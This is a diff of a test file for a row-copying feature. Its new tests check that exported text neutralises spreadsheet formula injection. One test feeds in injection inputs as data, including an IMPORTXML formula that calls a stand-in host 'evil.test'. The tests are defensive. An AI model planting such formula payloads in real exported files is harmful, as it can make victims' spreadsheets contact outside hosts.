@@ -42,3 +42,23 @@ test('only what makes sense for a row is offered', () => {
   expect(idsOf(openRow())).toEqual(['text', 'curl', 'wscat']);
   expect(idsOf(endedRow({ url: 'not a url' }))).toEqual(['text', 'markdown']);
 });
+
+test.each(['=IMPORTXML("https://evil.test")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1'])(
+  'a reason that a spreadsheet would run (%j) is text there',
+  (reason) => {
+    const cells = rowAsText(closedRow(4000, reason), english, { includeSecrets: true }).split('\t');
+    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+    expect(cells[7]).toBe(`'${reason.trim()}`);
+  },
+);
+
+test('offering copies makes none of them: a URL is taken apart only when a copy is asked for', () => {
+  const row = endedRow();
+  const told: string[] = [];
+  const watched = {
+    ...english,
+    text: (...given: Parameters<typeof english.text>) => String(told.push(String(given[0]))),
+  };
+  copyChoices(row, watched, { includeSecrets: false });
+  expect(told).toEqual([]);
+});
